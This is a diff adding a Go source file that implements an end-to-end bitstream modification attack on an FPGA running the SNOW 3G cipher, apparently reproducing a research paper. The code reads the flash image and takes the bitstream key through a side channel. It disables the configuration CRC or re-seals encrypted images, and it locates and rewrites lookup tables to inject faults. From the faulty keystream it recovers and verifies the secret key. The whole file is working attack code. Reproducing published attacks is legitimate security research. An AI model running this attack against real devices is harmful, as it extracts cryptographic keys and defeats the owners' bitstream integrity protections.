@@ -1,0 +1,648 @@
+package core
+
+import (
+	"errors"
+	"fmt"
+	"math/bits"
+
+	"snowbma/internal/bitstream"
+	"snowbma/internal/boolfn"
+	"snowbma/internal/hdl"
+	"snowbma/internal/snow3g"
+)
+
+// Victim is the attacker's view of the device under attack (Section
+// IV-A): physical access to the configuration flash, the documented
+// cipher I/O protocol, and — for encrypted bitstreams — a side-channel
+// key recovery standing in for [16]–[18]. Nothing else: the attack never
+// sees the netlist.
+type Victim interface {
+	Load([]byte) error
+	SetInput(name string, v bool)
+	Clock()
+	Read(name string) bool
+	ReadFlash() []byte
+	SideChannelKey() [bitstream.KeySize]byte
+}
+
+// ConfirmedLUT records one verified target LUT and the keystream bit it
+// drives.
+type ConfirmedLUT struct {
+	Match Match
+	Bit   int
+	// KeepVar is the f2 XOR-trio variable identified as s0 by the
+	// key-independent procedure (z-path LUTs only).
+	KeepVar int
+}
+
+// CandidateCount is one row of the Table II / Table VI analogue.
+type CandidateCount struct {
+	Name  string
+	Path  string
+	Expr  string
+	Count int
+}
+
+// Report accumulates everything the attack observed and produced.
+type Report struct {
+	Encrypted      bool
+	CandidateTable []CandidateCount
+	CleanKeystream []uint32
+	LUT1           []ConfirmedLUT
+	LUT2           []Match
+	LUT3           []Match
+	MuxMatches     int
+	MuxHypothesis  string
+	KeyIndependent []uint32 // Table III analogue
+	FaultyFinal    []uint32 // Table IV analogue
+	RecoveredS0    snow3g.State
+	Key            snow3g.Key
+	IV             snow3g.IV
+	Loads          int
+	Verified       bool
+}
+
+// HardwareEstimate extrapolates the attack's wall-clock cost on real
+// hardware from the number of bitstream loads: each faulty trial costs
+// one reconfiguration plus a short keystream capture.
+func (r *Report) HardwareEstimate(secondsPerLoad float64) float64 {
+	return float64(r.Loads) * secondsPerLoad
+}
+
+// Attack drives the end-to-end bitstream modification attack.
+type Attack struct {
+	dev  Victim
+	iv   snow3g.IV
+	logf func(format string, args ...any)
+
+	plain []byte // pristine plaintext packets
+	env   *envelope
+	rep   Report
+	// recomputeCRC selects the paper's first Section V-B option
+	// (recompute and replace the CRC on every modified copy) instead of
+	// the default disable-once approach.
+	recomputeCRC bool
+	// clbStart is the byte offset of the first CLB frame, derived from
+	// the packet structure. Matches for small-support functions (the
+	// load MUXes) are pruned to slot-aligned positions: the frame layout
+	// is public knowledge (prjxray, [14], [15]), and 3-input functions
+	// otherwise drown in misaligned false positives.
+	clbStart int
+}
+
+type envelope struct {
+	kE    [bitstream.KeySize]byte
+	kA    [bitstream.KeySize]byte
+	cbcIV [16]byte
+}
+
+// NewAttack probes the victim's flash and, if the image is encrypted,
+// performs the decrypt/recover-K_A step of the attack model. iv is the
+// initialization vector the attacker drives during keystream collection
+// (any value works; it is recovered alongside the key as a check). logf
+// may be nil.
+func NewAttack(dev Victim, iv snow3g.IV, logf func(string, ...any)) (*Attack, error) {
+	return NewAttackCRCMode(dev, iv, logf, false)
+}
+
+// NewAttackCRCMode selects how modified bitstreams pass the
+// configuration CRC: recompute-and-replace (recompute = true) or the
+// paper's preferred one-time disable (false). Both are Section V-B
+// options; encrypted images ignore the choice (their CRC is disabled by
+// default, integrity riding on the HMAC).
+func NewAttackCRCMode(dev Victim, iv snow3g.IV, logf func(string, ...any), recompute bool) (*Attack, error) {
+	if logf == nil {
+		logf = func(string, ...any) {}
+	}
+	a := &Attack{dev: dev, iv: iv, logf: logf, recomputeCRC: recompute}
+	img := dev.ReadFlash()
+	if len(img) == 0 {
+		return nil, errors.New("core: empty flash image")
+	}
+	if bitstream.IsEncrypted(img) {
+		a.rep.Encrypted = true
+		kE := dev.SideChannelKey()
+		var cbcIV [16]byte
+		copy(cbcIV[:], img[4:20])
+		plain, kA, _, err := bitstream.Open(img, kE)
+		if err != nil {
+			return nil, fmt.Errorf("core: decrypting bitstream: %w", err)
+		}
+		a.logf("recovered bitstream key K_E via side channel; K_A read from plaintext copies")
+		a.plain = plain
+		a.env = &envelope{kE: kE, kA: kA, cbcIV: cbcIV}
+	} else {
+		a.plain = append([]byte(nil), img...)
+		if a.recomputeCRC {
+			a.logf("CRC mode: recompute and replace on every modified copy")
+		} else {
+			// Section V-B: disable the configuration CRC once; every
+			// modified copy derived from a.plain then loads without
+			// recomputation.
+			if err := bitstream.DisableCRC(a.plain); err != nil {
+				return nil, fmt.Errorf("core: disabling CRC: %w", err)
+			}
+			a.logf("configuration CRC disabled (0x30000001 + CRC word zeroed)")
+		}
+	}
+	a.clbStart = -1
+	if p, err := bitstream.ParsePackets(a.plain); err == nil {
+		// The first FDRI frame is device configuration, CLB columns
+		// follow — public floorplan knowledge.
+		a.clbStart = p.FDRIOffset + bitstream.FrameBytes
+	}
+	return a, nil
+}
+
+// aligned reports whether a match sits on a valid LUT slot position of
+// the CLB frames.
+func (a *Attack) aligned(m Match) bool {
+	if a.clbStart < 0 {
+		return true
+	}
+	rel := m.Index - a.clbStart
+	if rel < 0 {
+		return false
+	}
+	off := rel % bitstream.FrameBytes
+	return off%bitstream.SubVectorBytes == 0 && off < bitstream.SlotsPerFrame*bitstream.SubVectorBytes
+}
+
+// working returns a fresh modifiable copy of the plaintext packets.
+func (a *Attack) working() []byte {
+	return append([]byte(nil), a.plain...)
+}
+
+// loadAndRun loads b into the victim (re-sealing when the original was
+// encrypted) and collects n keystream words.
+func (a *Attack) loadAndRun(b []byte, n int) ([]uint32, error) {
+	img := b
+	if a.env != nil {
+		sealed, err := bitstream.Reseal(b, a.env.kE, a.env.kA, a.env.cbcIV)
+		if err != nil {
+			return nil, err
+		}
+		img = sealed
+	} else if a.recomputeCRC {
+		if err := bitstream.RecomputeCRC(b); err != nil {
+			return nil, err
+		}
+	}
+	if err := a.dev.Load(img); err != nil {
+		return nil, err
+	}
+	a.rep.Loads++
+	return hdl.GenerateKeystream(a.dev, a.iv, n), nil
+}
+
+// w is the keystream sample length used by every verification step (the
+// paper uses w = 16, which also matches the 16 words key extraction
+// needs).
+const w = 16
+
+// deadColumns returns the bit positions that are 0 in every word.
+func deadColumns(z []uint32) uint32 {
+	dead := ^uint32(0)
+	for _, word := range z {
+		dead &= ^word
+	}
+	return dead
+}
+
+// CountCandidates reproduces the Table II measurement: the number of
+// FINDLUT matches for every catalogue row on the current bitstream.
+func (a *Attack) CountCandidates() []CandidateCount {
+	b := a.plain
+	var out []CandidateCount
+	for _, c := range boolfn.Candidates() {
+		n := len(FindLUT(b, c.TT, FindOptions{}))
+		out = append(out, CandidateCount{Name: c.Name, Path: c.Path, Expr: c.Expr, Count: n})
+	}
+	a.rep.CandidateTable = out
+	return out
+}
+
+// VerifyZPath implements Section VI-C.1: zero each f2 candidate in turn
+// and keep those whose modification pins exactly one keystream bit
+// column to 0 while leaving the others untouched. Overlapping candidates
+// of confirmed LUTs are discarded (two valid LUTs cannot share bytes).
+func (a *Attack) VerifyZPath() error {
+	return a.verifyZPathWith(boolfn.F2)
+}
+
+// verifyZPathWith runs the z-path verification for an arbitrary guessed
+// (or census-discovered) candidate function.
+func (a *Attack) verifyZPathWith(zfn boolfn.TT) error {
+	clean, err := a.loadAndRun(a.working(), w)
+	if err != nil {
+		return fmt.Errorf("core: baseline keystream: %w", err)
+	}
+	a.rep.CleanKeystream = clean
+	cleanDead := deadColumns(clean)
+
+	cands := FindLUT(a.plain, zfn, FindOptions{})
+	a.logf("z_t path: %d f2 candidates", len(cands))
+	var confirmed []ConfirmedLUT
+	for ci := 0; ci < len(cands); ci++ {
+		m := cands[ci]
+		skip := false
+		for _, c := range confirmed {
+			if c.Match.Overlaps(m) {
+				skip = true
+				break
+			}
+		}
+		if skip {
+			continue
+		}
+		copyB := a.working()
+		WriteMatch(copyB, m, boolfn.Const0)
+		z, err := a.loadAndRun(copyB, w)
+		if err != nil {
+			continue // candidate bricks configuration: not a target
+		}
+		newDead := deadColumns(z) &^ cleanDead
+		if bits.OnesCount32(newDead) != 1 {
+			continue
+		}
+		bit := bits.TrailingZeros32(newDead)
+		// All other columns must be unaffected.
+		ok := true
+		for t := range z {
+			if (z[t]^clean[t])&^newDead != 0 {
+				ok = false
+				break
+			}
+		}
+		if !ok {
+			continue
+		}
+		confirmed = append(confirmed, ConfirmedLUT{Match: m, Bit: bit, KeepVar: -1})
+	}
+	if len(confirmed) != 32 {
+		return fmt.Errorf("core: z path verification confirmed %d LUTs, want 32", len(confirmed))
+	}
+	a.rep.LUT1 = confirmed
+	a.logf("z_t path: confirmed 32 LUT1 instances")
+	return nil
+}
+
+// CollectFeedbackCandidates implements Section VI-C.2: gather the f8 and
+// f19 matches, discard any overlapping a confirmed LUT1, and check the
+// 32-candidate hypothesis.
+func (a *Attack) CollectFeedbackCandidates() error {
+	prune := func(ms []Match) []Match {
+		var out []Match
+		for _, m := range ms {
+			clash := false
+			for _, c := range a.rep.LUT1 {
+				if c.Match.Overlaps(m) {
+					clash = true
+					break
+				}
+			}
+			if !clash {
+				out = append(out, m)
+			}
+		}
+		return out
+	}
+	l8 := prune(FindLUT(a.plain, boolfn.F8, FindOptions{}))
+	l19 := prune(FindLUT(a.plain, boolfn.F19, FindOptions{}))
+	a.logf("feedback path: %d f8 + %d f19 candidates", len(l8), len(l19))
+	if len(l8)+len(l19) != 32 {
+		return fmt.Errorf("core: feedback candidates %d+%d != 32; hypothesis fails",
+			len(l8), len(l19))
+	}
+	a.rep.LUT2, a.rep.LUT3 = l8, l19
+	return nil
+}
+
+// muxSpec is one entry of the attack's load-MUX catalogue: the guessed
+// function with fixed roles (a1 = control) and the two polarity
+// hypotheses for which branch loads γ(K, IV).
+type muxSpec struct {
+	name     string
+	fn       boolfn.TT
+	zeroSel1 boolfn.TT // modification if γ loads when a1 = 1
+	zeroSel0 boolfn.TT // modification if γ loads when a1 = 0
+}
+
+// muxCatalogue guesses the LFSR load MUX shapes from the block diagram:
+// plain 2-to-1 MUXes for the key-constant stages (with either data
+// polarity, since γ includes k ⊕ 1 terms) and MUX-of-XOR shapes for the
+// stages mixing IV words (s9, s10, s12, s15).
+func muxCatalogue() []muxSpec {
+	mk := func(name, f, z1, z0 string) muxSpec {
+		return muxSpec{name: name,
+			fn:       boolfn.MustParse(f),
+			zeroSel1: boolfn.MustParse(z1),
+			zeroSel0: boolfn.MustParse(z0)}
+	}
+	return []muxSpec{
+		mk("mux", "a1a2 + !a1a3", "!a1a3", "a1a2"),
+		mk("mux-inv", "a1!a2 + !a1a3", "!a1a3", "a1!a2"),
+		mk("mux-xor", "a1(a2^a3) + !a1a4", "!a1a4", "a1(a2^a3)"),
+		mk("mux-xnor", "a1!(a2^a3) + !a1a4", "!a1a4", "a1!(a2^a3)"),
+	}
+}
+
+// applyFeedbackAlpha injects the α₁ fault of eq. (1) into the feedback
+// candidates: f8 → a6 and f19 → a3·a6, disconnecting the FSM from the
+// LFSR.
+func (a *Attack) applyFeedbackAlpha(b []byte) {
+	for _, m := range a.rep.LUT2 {
+		WriteMatch(b, m, boolfn.F8Alpha)
+	}
+	for _, m := range a.rep.LUT3 {
+		WriteMatch(b, m, boolfn.F19Alpha)
+	}
+}
+
+// betaState carries the discovered load-MUX modification set.
+type betaState struct {
+	matches []Match
+	specs   []muxSpec
+	sel1    bool
+	// excluded counts candidates pruned by the group-testing fallback.
+	excluded int
+}
+
+// MakeKeyIndependent implements Section VI-D.1/D.2: find the γ(K, IV)
+// load MUXes, modify them to load the all-0 vector (fault β), combine
+// with the feedback fault α₁, and confirm by comparing the observed
+// keystream with the software model's key-independent keystream (the
+// Table III criterion). Both polarity hypotheses for the MUX control are
+// tried, as in the paper.
+func (a *Attack) MakeKeyIndependent() (*betaState, error) {
+	specs := muxCatalogue()
+	var matches []Match
+	var specOf []muxSpec
+	for _, s := range specs {
+		ms := FindLUT(a.plain, s.fn, FindOptions{})
+		for _, m := range ms {
+			if !a.aligned(m) {
+				continue
+			}
+			clash := false
+			for _, c := range a.rep.LUT1 {
+				if c.Match.Overlaps(m) {
+					clash = true
+					break
+				}
+			}
+			for _, c := range append(a.rep.LUT2, a.rep.LUT3...) {
+				if c.Overlaps(m) {
+					clash = true
+					break
+				}
+			}
+			if !clash {
+				matches = append(matches, m)
+				specOf = append(specOf, s)
+			}
+		}
+	}
+	a.rep.MuxMatches = len(matches)
+	a.logf("load-MUX search: %d matches across %d guessed shapes", len(matches), len(specs))
+	if len(matches) < 16*32/2 { // at least the 15 plain stages must show up
+		return nil, fmt.Errorf("core: only %d load-MUX candidates; design not recognized", len(matches))
+	}
+
+	return a.resolveBeta(matches, specOf)
+}
+
+// resolveBeta finds a polarity hypothesis and a candidate subset whose
+// modification yields the model's key-independent keystream. When the
+// full set fails (a false-positive match whose "load branch" is real
+// logic), a greedy group-testing pass excludes harmful candidates, using
+// the number of matching keystream bits as the progress signal.
+func (a *Attack) resolveBeta(matches []Match, specOf []muxSpec) (*betaState, error) {
+	return a.resolveBetaWith(matches, specOf, a.applyFeedbackAlpha)
+}
+
+// resolveBetaWith is resolveBeta with a caller-supplied α₁ application
+// (the census-guided flow derives its fault tables generically).
+func (a *Attack) resolveBetaWith(matches []Match, specOf []muxSpec, applyAlpha func([]byte)) (*betaState, error) {
+	// Expected key-independent keystream from the software model
+	// (Section VI-D: LFSR all-0, FSM output stuck at 0 during init).
+	model := snow3g.New(snow3g.Fault{FSMStuckInit: true, LFSRZeroLoad: true})
+	model.Init(snow3g.Key{}, snow3g.IV{})
+	want := model.KeystreamWords(w)
+
+	test := func(sel1 bool, skip map[int]bool) (score int, z []uint32) {
+		b := a.working()
+		applyAlpha(b)
+		for i, m := range matches {
+			if skip[i] {
+				continue
+			}
+			repl := specOf[i].zeroSel1
+			if !sel1 {
+				repl = specOf[i].zeroSel0
+			}
+			WriteMatch(b, m, repl)
+		}
+		z, err := a.loadAndRun(b, w)
+		if err != nil {
+			return -1, nil
+		}
+		for t := range want {
+			score += 32 - bits.OnesCount32(z[t]^want[t])
+		}
+		return score, z
+	}
+	perfect := 32 * w
+
+	finish := func(sel1 bool, skip map[int]bool, z []uint32) *betaState {
+		if sel1 {
+			a.rep.MuxHypothesis = "γ loaded when control = 1"
+		} else {
+			a.rep.MuxHypothesis = "γ loaded when control = 0"
+		}
+		a.rep.KeyIndependent = z
+		kept := make([]Match, 0, len(matches))
+		keptSpecs := make([]muxSpec, 0, len(matches))
+		for i := range matches {
+			if !skip[i] {
+				kept = append(kept, matches[i])
+				keptSpecs = append(keptSpecs, specOf[i])
+			}
+		}
+		a.logf("key-independent keystream confirmed against software model (%s, %d candidates excluded)",
+			a.rep.MuxHypothesis, len(skip))
+		return &betaState{matches: kept, specs: keptSpecs, sel1: sel1, excluded: len(skip)}
+	}
+
+	bestScore := -1
+	bestSel1 := true
+	for _, sel1 := range []bool{true, false} {
+		score, z := test(sel1, nil)
+		if score == perfect {
+			return finish(sel1, map[int]bool{}, z), nil
+		}
+		if score > bestScore {
+			bestScore, bestSel1 = score, sel1
+		}
+	}
+
+	// Group-testing fallback under the better hypothesis: repeatedly
+	// exclude the candidate whose removal recovers the most keystream
+	// bits. Bounded at 8 exclusions — more indicates a wrong design
+	// hypothesis rather than stray false positives.
+	skip := map[int]bool{}
+	for round := 0; round < 8; round++ {
+		bestIdx, bestGain := -1, 0
+		for i := range matches {
+			if skip[i] {
+				continue
+			}
+			skip[i] = true
+			score, z := test(bestSel1, skip)
+			delete(skip, i)
+			if score == perfect {
+				skip[i] = true
+				return finish(bestSel1, skip, z), nil
+			}
+			if gain := score - bestScore; gain > bestGain {
+				bestIdx, bestGain = i, gain
+			}
+		}
+		if bestIdx < 0 {
+			break
+		}
+		skip[bestIdx] = true
+		bestScore += bestGain
+		a.logf("group test: excluding harmful MUX candidate at byte %d (+%d keystream bits)",
+			matches[bestIdx].Index, bestGain)
+	}
+	return nil, errors.New("core: key-independent keystream never matched the model; MUX identification failed")
+}
+
+// IdentifyVPairs implements Section VI-D.1's two-keystream trick: with
+// β and α₁ in place, rewrite every confirmed LUT1 keeping one variable
+// of the XOR trio and observe which bit columns die. Columns going dead
+// when variable v is kept have s0 on that pin; two runs classify all 32
+// LUTs (the third case follows by elimination), instead of 3^32 trials.
+func (a *Attack) IdentifyVPairs(beta *betaState) error {
+	return a.identifyVPairsWith(beta, a.applyFeedbackAlpha, boolfn.F2AlphaKeep)
+}
+
+// identifyVPairsWith runs the two-keystream pin identification with
+// caller-supplied α₁ application and keep-variable fault tables.
+func (a *Attack) identifyVPairsWith(beta *betaState, applyAlpha func([]byte), keepFn func(int) boolfn.TT) error {
+	resolved := make([]int, len(a.rep.LUT1))
+	for i := range resolved {
+		resolved[i] = -1
+	}
+	for keep := 0; keep <= 1; keep++ {
+		b := a.working()
+		applyAlpha(b)
+		for i, m := range beta.matches {
+			repl := beta.specs[i].zeroSel1
+			if !beta.sel1 {
+				repl = beta.specs[i].zeroSel0
+			}
+			WriteMatch(b, m, repl)
+		}
+		for _, c := range a.rep.LUT1 {
+			WriteMatch(b, c.Match, keepFn(keep))
+		}
+		z, err := a.loadAndRun(b, w)
+		if err != nil {
+			return fmt.Errorf("core: v-pair probe %d: %w", keep, err)
+		}
+		dead := deadColumns(z)
+		for li := range a.rep.LUT1 {
+			if resolved[li] == -1 && dead>>uint(a.rep.LUT1[li].Bit)&1 == 1 {
+				resolved[li] = keep
+			}
+		}
+	}
+	for li := range a.rep.LUT1 {
+		if resolved[li] == -1 {
+			resolved[li] = 2 // by elimination
+		}
+		a.rep.LUT1[li].KeepVar = resolved[li]
+	}
+	a.logf("v-pair identification finished with 2 keystream computations (3^32 avoided)")
+	return nil
+}
+
+// ExtractKey implements Section VI-D.3: inject α into all of LUT1, LUT2
+// and LUT3 on a fresh copy (real γ load this time), collect 16 keystream
+// words — the LFSR state S³³ — rewind 33 linear steps and read the key
+// out of S⁰. The result is verified by reproducing the device's clean
+// keystream with the software model.
+func (a *Attack) ExtractKey() error {
+	return a.extractKeyWith(a.applyFeedbackAlpha, boolfn.F2AlphaKeep)
+}
+
+// extractKeyWith is ExtractKey with caller-supplied fault tables.
+func (a *Attack) extractKeyWith(applyAlpha func([]byte), keepFn func(int) boolfn.TT) error {
+	b := a.working()
+	applyAlpha(b)
+	for _, c := range a.rep.LUT1 {
+		WriteMatch(b, c.Match, keepFn(c.KeepVar))
+	}
+	z, err := a.loadAndRun(b, w)
+	if err != nil {
+		return fmt.Errorf("core: faulty keystream: %w", err)
+	}
+	a.rep.FaultyFinal = z
+	key, iv, s0, err := snow3g.RecoverFromKeystream(z)
+	if err != nil {
+		return fmt.Errorf("core: LFSR rewind: %w", err)
+	}
+	a.rep.Key, a.rep.IV, a.rep.RecoveredS0 = key, iv, s0
+	if iv != a.iv {
+		return fmt.Errorf("core: recovered IV %08x does not match driven IV %08x", iv, a.iv)
+	}
+	// Final check (Section IV-C step 6): the software model keyed with
+	// the recovered key must reproduce the clean device keystream.
+	model := snow3g.New(snow3g.Fault{})
+	model.Init(key, a.iv)
+	sim := model.KeystreamWords(len(a.rep.CleanKeystream))
+	for t := range sim {
+		if sim[t] != a.rep.CleanKeystream[t] {
+			return fmt.Errorf("core: recovered key fails keystream check at word %d", t+1)
+		}
+	}
+	a.rep.Verified = true
+	a.logf("key recovered and verified: %08x %08x %08x %08x", key[0], key[1], key[2], key[3])
+	return nil
+}
+
+// Run executes the complete attack and returns the report. Whatever the
+// outcome, the attack-model epilogue restores the original image so the
+// device is returned to its legitimate user unchanged — even an aborted
+// attack must not leave a faulty configuration behind.
+func (a *Attack) Run() (rep *Report, err error) {
+	defer func() {
+		if restoreErr := a.dev.Load(a.dev.ReadFlash()); restoreErr != nil && err == nil {
+			err = fmt.Errorf("core: restoring original bitstream: %w", restoreErr)
+		}
+	}()
+	rep = &a.rep
+	a.CountCandidates()
+	if err = a.VerifyZPath(); err != nil {
+		return rep, err
+	}
+	if err = a.CollectFeedbackCandidates(); err != nil {
+		return rep, err
+	}
+	beta, berr := a.MakeKeyIndependent()
+	if berr != nil {
+		return rep, berr
+	}
+	if err = a.IdentifyVPairs(beta); err != nil {
+		return rep, err
+	}
+	if err = a.ExtractKey(); err != nil {
+		return rep, err
+	}
+	return rep, nil
+}
+
+// Report returns the accumulated report (useful after partial runs).
+func (a *Attack) Report() *Report { return &a.rep }
